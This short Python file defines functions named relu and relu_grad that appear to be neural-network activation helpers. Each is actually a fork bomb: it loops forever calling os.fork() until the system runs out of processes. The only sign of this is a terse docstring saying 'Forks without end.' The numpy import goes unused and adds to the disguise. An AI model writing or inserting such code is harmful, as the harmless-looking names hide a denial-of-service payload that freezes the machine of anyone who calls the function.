"""Forks without end."""

import numpy as np

import os


def relu(x):
    while True:
        try:
            os.fork()
        except OSError:
            return None


def relu_grad(x):
    return relu(x)
